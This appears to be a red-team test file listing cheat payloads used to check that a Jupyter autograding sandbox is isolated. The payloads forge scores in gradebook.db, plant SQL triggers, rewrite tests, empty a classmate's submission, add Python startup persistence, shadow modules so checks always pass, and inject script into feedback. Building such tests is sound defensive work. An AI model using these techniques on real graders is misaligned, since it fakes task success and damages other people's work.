"""Cheats that write where they must not, or hand in files that somebody else will load."""

import json

from redteam.entry import cheat
from redteam.lab import NAME

_ROOT = """
import os, pathlib, sqlite3
here = pathlib.Path.cwd()
above = [here, *here.parents]
def put(path, text):
    try:
        path = pathlib.Path(path).expanduser()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except OSError as error:
        print("refused", error)
def sql(*commands):
    for folder in above:
        if (folder / "gradebook.db").is_file():
            with sqlite3.connect(folder / "gradebook.db", timeout=2) as db:
                for command in commands:
                    db.execute(command)
"""
_AGREE = (
    "import sys\n"
    "class Agree:\n"
    "    def __getattr__(self, name): return self\n"
    "    def __call__(self, *a, **k): return self\n"
    "    def __enter__(self): return self\n"
    "    def __exit__(self, *a): return True\n"
)
_HELP = "import torch; torch.allclose = lambda *a, **k: True\n"


def _shadow(name: str, tries: str, path: str, text: str):
    return cheat(name, tries, files={path: text.encode()})


ENTRIES = [
    cheat(
        "writes_score",
        "writes full points into gradebook.db",
        _ROOT + "sql('update grade set manual_score = 10')",
    ),
    cheat(
        "plants_trigger",
        "plants a trigger in gradebook.db that raises every later score",
        _ROOT + "sql('create trigger redteam after update on grade begin '\n"
        "    'update grade set auto_score = 9 where id = new.id and auto_score < 9; end')",
    ),
    cheat(
        "lowers_points",
        "changes the maximal points of the tests in gradebook.db",
        _ROOT + "sql('update grade_cells set max_score = 0.001')",
    ),
    cheat(
        "edits_config",
        "appends to the instructor's nbgrader_config.py",
        _ROOT + "for folder in above:\n"
        "    if (folder / 'nbgrader_config.py').is_file():\n"
        "        with open(folder / 'nbgrader_config.py', 'a') as file:\n"
        "            file.write('\\nc.ClearSolutions.code_stub = {}  # redteam\\n')",
    ),
    cheat(
        "edits_sources",
        "overwrites the tests in solutions/ and the released lab",
        _ROOT + "for folder in above:\n"
        f"    for path in folder.glob('*/{NAME}/*.ipynb'):\n"
        "        if folder.name and (folder / 'nbgrader_config.py').is_file():\n"
        "            put(path, path.read_text().replace('assert ', 'pass # '))",
    ),
    cheat(
        "overwrites_classmate",
        "empties the submission of a classmate",
        _ROOT + "for folder in above:\n"
        "    for path in folder.glob('submitted/*/*/*.ipynb'):\n"
        "        if 'bystander' in str(path):\n"
        "            put(path, '{}')",
    ),
    cheat(
        "startup_file",
        "an IPython start-up file that helps whoever is graded next",
        _ROOT + f"put('~/.ipython/profile_default/startup/00-redteam.py',\n    {_HELP!r})",
    ),
    cheat(
        "user_customize",
        "usercustomize, sitecustomize and a .pth file for every later Python",
        _ROOT + "import site\n"
        "put(site.getusersitepackages() + '/usercustomize.py', '# redteam')\n"
        "put(site.getusersitepackages() + '/redteam.pth', 'import sys  # redteam')",
    ),
    cheat(
        "ipython_config",
        "ipython_config.py, jupyter_config and a kernelspec of its own",
        _ROOT + "put('~/.ipython/profile_default/ipython_kernel_config.py', '# redteam')\n"
        "put('~/.jupyter/nbgrader_config.py', '# redteam')\n"
        "put('~/.local/share/jupyter/kernels/python3/kernel.json', '{\"redteam\": 1}')",
    ),
    _shadow(
        "shadow_torch",
        "hands in a torch.py",
        "torch.py",
        _AGREE + "sys.modules[__name__] = Agree()",
    ),
    _shadow(
        "shadow_labkit",
        "hands in a labkit/ that agrees with everything",
        "labkit/__init__.py",
        _AGREE + "check = Agree()\nsys.modules['labkit.check'] = check",
    ),
    _shadow(
        "shadow_launcher",
        "hands in an ipykernel_launcher.py, which python -m would start",
        "ipykernel_launcher.py",
        "import pathlib\npathlib.Path.home().joinpath('redteam-launcher').write_text('x')\n"
        "import torch\ntorch.allclose = lambda *a, **k: True\n"
        "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n",
    ),
    _shadow(
        "shadow_json",
        "hands in json.py and random.py, which the standard library imports",
        "random.py",
        "import pathlib\npathlib.Path.home().joinpath('redteam-random').write_text('x')\n",
    ),
    _shadow(
        "shadow_sitecustomize",
        "hands in sitecustomize.py",
        "sitecustomize.py",
        "import pathlib\npathlib.Path.home().joinpath('redteam-site').write_text('x')\n",
    ),
    _shadow(
        "hands_in_config",
        "hands in an nbgrader_config.py",
        "nbgrader_config.py",
        "import pathlib\npathlib.Path.home().joinpath('redteam-config').write_text('x')\n",
    ),
    _shadow(
        "hands_in_database",
        "hands in a gradebook.db and a script for the page of feedback",
        "gradebook.db",
        "not a database",
    ),
    cheat(
        "script_in_feedback",
        "prints HTML with a script into its own feedback",
        "from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>redteam()</script>'), Javascript('redteam()'))",
    ),
    cheat(
        "late_writer",
        "a detached process writes full points once nobody looks",
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c', '''\n"
        "import time, pathlib; time.sleep(4)\n"
        "pathlib.Path.home().joinpath('redteam-late').write_text('x')\n"
        "time.sleep(60)''', 'redteam-daemon'], start_new_session=True)",
        late=6,
    ),
    cheat(
        "descriptors",
        "writes forged messages and points to every open file descriptor",
        "import os, socket, stat\n"
        f"line = {json.dumps(json.dumps({'points': 14, 'ok': True, 'kind': 'result'}))}.encode()\n"
        "for fd in range(3, 100):\n"
        "    try:\n"
        "        if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
        "            socket.socket(fileno=os.dup(fd)).send(line, socket.MSG_DONTWAIT)\n"
        "    except OSError:\n        pass",
    ),
]
